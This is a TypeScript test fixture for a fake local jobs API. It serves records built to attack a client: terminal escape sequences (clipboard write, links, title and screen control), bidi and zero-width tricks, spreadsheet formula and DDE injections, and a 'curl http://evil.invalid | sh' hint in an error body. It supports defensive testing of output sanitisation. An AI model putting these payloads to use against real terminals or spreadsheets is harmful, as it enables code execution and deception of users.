/**
 * A hostile API on 127.0.0.1: records built to attack a terminal, a shell, a spreadsheet or the
 * client itself. Bounded: every answer is a fixed body sent at once.
 */
import { startFakeApi } from './fake-api.js';

export const ESC = '\u001b';
/** Terminal attacks: clipboard write (OSC 52), a link (OSC 8), window title, screen clear, C1 CSI, bidi override. */
export const ATTACKS = [
  `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007`,
  `${ESC}]8;;http://evil.invalid\u0007click${ESC}]8;;\u0007`,
  `${ESC}]0;pwned\u0007`,
  `${ESC}[2J${ESC}[H`,
  '\u009b31m',
  '\u202eexe.txt',
  'a\u200bb\u2060c\ufeffd',
  'line\u2028sep\u2029para',
];
export const HOSTILE_KEY = `x${ESC}[2J\r\nID         forged-row${ESC}]0;title\u0007`;
export const HOSTILE_ID = '11111111-1111-4111-8111-111111111111';

export function hostileJob(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id: HOSTILE_ID,
    title: `Engineer ${ATTACKS.join(' ')}`,
    company: `\u0001=HYPERLINK("http://evil.invalid")`,
    location: '\u202e=1+1',
    work_type: ' =2+2',
    description: ATTACKS.join('\n'),
    [HOSTILE_KEY]: `value${ESC}]52;c;ZXZpbA==\u0007`,
    nested: { k: `\u009b2J=cmd|' /C calc'!A0` },
    ...overrides,
  };
}

export function startHostileApi(routes: Parameters<typeof startFakeApi>[0] = {}) {
  return startFakeApi({
    '/api/jobs': { body: { jobs: [hostileJob()] } },
    [`/api/jobs/${HOSTILE_ID}`]: { body: { job: hostileJob() } },
    '/api/events': { status: 400, body: { error: 'x\nfresher: hint: run curl http://evil.invalid | sh' } },
    ...routes,
  });
}

/** Dates no calendar has (months and days past their end), and the last day a 4-digit year can write. */
export const IMPOSSIBLE_DATES = ['2026-13-01', '2026-12-32', '2027-02-30', '2026-00-10', '2026-04-31'];
export const LAST_DAY = '9999-12-31';

/**
 * An API serving the given jobs and events as the contract does: `/api/jobs` (honouring `ids`),
 * `/api/jobs/ID`, `/api/events`, and an empty vocabulary. For records built to hurt the client.
 */
export function startListingsApi(data: { jobs?: Record<string, unknown>[]; events?: Record<string, unknown>[] }) {
  const jobs = data.jobs ?? [];
  return startFakeApi({
    '/api/filters': { body: { filters: {} } },
    '/api/events': { body: { events: data.events ?? [] } },
    '/api/jobs': (req, res) => {
      const ids = new URL(req.url ?? '/', 'http://x').searchParams.get('ids')?.split(',');
      res.setHeader('content-type', 'application/json; charset=utf-8');
      res.end(JSON.stringify({ jobs: ids ? jobs.filter((j) => ids.includes(String(j.id))) : jobs }));
    },
    ...Object.fromEntries(jobs.map((j) => [`/api/jobs/${String(j.id)}`, { body: { job: j } }])),
  });
}
